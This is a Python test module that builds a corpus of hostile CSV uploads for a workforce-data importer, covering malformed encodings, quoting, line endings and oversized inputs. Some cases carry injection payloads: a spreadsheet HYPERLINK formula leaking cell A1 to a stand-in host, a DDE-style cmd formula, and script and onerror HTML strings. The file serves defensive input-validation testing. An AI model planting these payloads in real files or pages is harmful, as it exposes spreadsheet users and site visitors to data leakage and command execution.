"""Hostile upload files: each case is (file name, bytes, target table). Small cases are also
kept as files in this folder (written by `python -m tests.hostile.corpus`); the big ones
(thousands of columns, a multi-megabyte line) are generated at test time.

Every case targets the tiny organisation's tables (tests/tiny.py), so an accepted file loads
rows that reference its workers and engagements."""

from __future__ import annotations

from pathlib import Path

HERE = Path(__file__).resolve().parent
W_HEADER = "worker_id,full_name,worker_type,role,seniority,department,location,vendor,start_date,end_date,annual_salary,hourly_rate,weekly_capacity_hours"
E_ROW = "E9,{name},employee,Software Developer,mid,{dept},Remote,,2023-01-02,,90000,,40"
SCRIPT = "<script>window.__xss=1</script>"
IMG = '<img src=x onerror="window.__xss=1">'


def _workers(*rows: str, header: str = W_HEADER, nl: str = "\n") -> bytes:
    return nl.join([header, *rows]).encode("utf-8") + nl.encode()


def small_cases() -> dict[str, tuple[bytes, str]]:
    """name → (bytes, table)."""
    ok_row = E_ROW.format(name="Eve Ninth", dept="Engineering")
    return {
        "formula_cells.csv": (_workers(
            E_ROW.format(name='"=HYPERLINK(""http://evil.example/?""&A1,""click"")"', dept="Engineering"),
            E_ROW.replace("E9", "E8").format(name="+cmd|' /C calc'!A0", dept="@SUM(1+1)"),
            E_ROW.replace("E9", "E7").format(name="-2+3", dept="\tTabbed"),
        ), "workers"),
        "html_cells.csv": (_workers(
            E_ROW.format(name=SCRIPT, dept='"' + IMG.replace('"', '""') + '"'),
            E_ROW.replace("E9", "E8").format(name="<b>bold</b> &amp; <i>x</i>", dept="<style>body{display:none}</style>"),
        ), "workers"),
        "html_headers.csv": (_workers(ok_row, header="<script>worker_id</script>," + W_HEADER.split(",", 1)[1]), "workers"),
        "nul_bytes.csv": (_workers(ok_row).replace(b"Eve", b"E\x00ve"), "workers"),
        "unbalanced_quotes.csv": (_workers('E9,"Eve Ninth,employee,Software Developer,mid,Engineering,Remote,,2023-01-02,,90000,,40'), "workers"),
        "nested_quotes.csv": (_workers(E_ROW.format(name='"' + '"' * 64 + 'Eve' + '"' * 64 + '"', dept="Engineering")), "workers"),
        "mixed_encodings.csv": (
            _workers(E_ROW.format(name="Zoë UTF8", dept="Engineering"))
            + E_ROW.replace("E9", "E8").format(name="Zoë Latin1", dept="Engineering").encode("latin-1") + b"\n",
            "workers",
        ),
        "bom_utf8.csv": (b"\xef\xbb\xbf" + _workers(ok_row), "workers"),
        "bom_utf16.csv": ("\ufeff".encode("utf-16-le") + _workers(ok_row).decode().encode("utf-16-le"), "workers"),
        "cr_only.csv": (_workers(ok_row, E_ROW.replace("E9", "E8").format(name="Cr Only", dept="Engineering"), nl="\r"), "workers"),
        "crlf.csv": (_workers(ok_row, E_ROW.replace("E9", "E8").format(name="Cr Lf", dept="Engineering"), nl="\r\n"), "workers"),
        "duplicate_headers.csv": (_workers(ok_row + ",E9", header=W_HEADER + ",worker_id"), "workers"),
        "empty_headers.csv": (_workers(ok_row + ",x,y", header=W_HEADER + ",,"), "workers"),
        "thousands_separators.csv": (_workers(E_ROW.replace("90000", '"90,000"').format(name="Eve Ninth", dept="Engineering")), "workers"),
        "only_commas.csv": (b",,,,\n,,,,\n", "workers"),
    }


def big_cases() -> dict[str, tuple[bytes, str]]:
    """Generated at test time: too big to commit."""
    wide_header = ",".join(f"c{i}" for i in range(5_000))
    wide_row = ",".join(str(i) for i in range(5_000))
    long_name = "A" * (6 * 1024 * 1024)  # one 6 MB cell on one line
    return {
        "thousands_of_columns.csv": ((wide_header + "\n" + wide_row + "\n") .encode(), "adhoc:wide"),
        "thousands_of_columns_workers.csv": ((W_HEADER + "," + wide_header + "\n" + E_ROW.format(name="Eve", dept="Engineering") + "," + wide_row + "\n").encode(), "workers"),
        "multi_megabyte_line.csv": (_workers(E_ROW.format(name=long_name, dept="Engineering")), "workers"),
        "multi_megabyte_line_no_newline.csv": (("x" * (3 * 1024 * 1024)).encode(), "workers"),
    }


def write_small_cases(folder: Path = HERE) -> None:
    for name, (data, _) in small_cases().items():
        (folder / name).write_bytes(data)


if __name__ == "__main__":
    write_small_cases()
